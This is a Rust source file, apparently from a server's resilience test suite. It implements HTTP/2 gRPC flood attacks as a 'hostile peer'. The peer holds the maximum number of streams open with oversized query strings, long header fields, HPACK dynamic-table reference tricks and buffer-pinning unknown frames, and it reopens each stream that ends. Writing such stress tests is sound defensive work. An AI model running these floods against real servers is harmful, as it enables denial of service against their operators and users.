//! As many streams as a connection takes, held open, with heads that cost more than they should; a
//! new one for each that has ended.

use std::{collections::HashSet, io};

use tokio::{
    io::{AsyncWriteExt as _, split},
    sync::mpsc::unbounded_channel,
};

use super::{
    HostilePeer, PLACE, WATCH,
    floods::{Attacking, LARGE, STREAMS, UNKNOWN, head, ids, open},
};
use crate::peers::{
    ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, field, grpc_head, raw_frame,
    read_frame,
};

/// Holds open what `call` begins, by its id.
fn hold(peer: HostilePeer, call: impl FnMut(u32) -> Vec<u8> + Send + 'static) -> Attacking {
    Box::pin(async move {
        // However it ends, there is another.
        let _ = try_hold(&peer, call).await;
    })
}

enum Event {
    Ended(u32),
    Ping(Vec<u8>),
}

async fn try_hold(peer: &HostilePeer, mut call: impl FnMut(u32) -> Vec<u8>) -> io::Result<()> {
    let (mut reader, mut writer) = split(open(peer, &[]).await?);
    let (sender, mut events) = unbounded_channel();
    let reading = async move {
        while let Some(frame) = read_frame(&mut reader).await {
            let ends = matches!(frame.kind, HEADERS | DATA) && frame.flags & END_STREAM != 0;
            let event = match frame.kind {
                PING if frame.flags & ACK == 0 => Event::Ping(frame.payload),
                kind if ends || kind == RST_STREAM => Event::Ended(frame.stream),
                _ => continue,
            };
            if sender.send(event).is_err() {
                return;
            }
        }
    };
    let sending = async {
        let mut ids = ids();
        let mut held = HashSet::new();
        loop {
            while held.len() < STREAMS {
                let id = ids.next().unwrap();
                writer.write_all(&call(id)).await?;
                held.insert(id);
            }
            match events.recv().await {
                // By its end, by a reset, or by both.
                Some(Event::Ended(id)) => {
                    held.remove(&id);
                }
                Some(Event::Ping(payload)) => {
                    writer.write_all(&raw_frame(PING, ACK, 0, &payload)).await?;
                }
                None => return Ok(()),
            }
        }
    };
    tokio::select! { ended = sending => ended, () = reading => Ok(()) }
}

/// A whole call of `Watch`, whose stream the server keeps open.
fn watch(stream: u32, head: &[u8]) -> Vec<u8> {
    let head = raw_frame(HEADERS, END_HEADERS, stream, head);
    [head, raw_frame(DATA, END_STREAM, stream, &[0; 5])].concat()
}

pub fn watches_with_long_queries(peer: HostilePeer) -> Attacking {
    let head = grpc_head(&format!("{WATCH}?{}", "q".repeat(15_000)));
    hold(peer, move |id| watch(id, &head))
}

pub fn watches_with_long_fields(peer: HostilePeer) -> Attacking {
    let fields = field("x", &"v".repeat(5000)).repeat(3);
    hold(peer, move |id| watch(id, &[grpc_head(WATCH), fields.clone()].concat()))
}

/// As many fields as the limit allows, a byte each: they are in the table of fields.
pub fn places_with_many_fields(peer: HostilePeer) -> Attacking {
    // The sixty youngest entries of the table, behind the 61 that are there from the start.
    let repeated: Vec<u8> = (62..122).map(|index| 0x80 | index).collect();
    let mut fields: Vec<u8> = Vec::new();
    for number in 10..70 {
        let mut field = field(&format!("x{number}"), "v");
        field[0] = 0x40;
        fields.extend(field);
    }
    hold(peer, move |id| {
        let block = [grpc_head(PLACE), fields.clone()].concat();
        fields = repeated.iter().copied().cycle().take(430).collect();
        raw_frame(HEADERS, END_HEADERS, id, &block)
    })
}

/// A head that is kept may keep what was read with it.
pub fn pinning_places(peer: HostilePeer) -> Attacking {
    let filler = raw_frame(UNKNOWN, 0, 0, &[0; LARGE]);
    hold(peer, move |id| [head(id, PLACE), filler.clone()].concat())
}
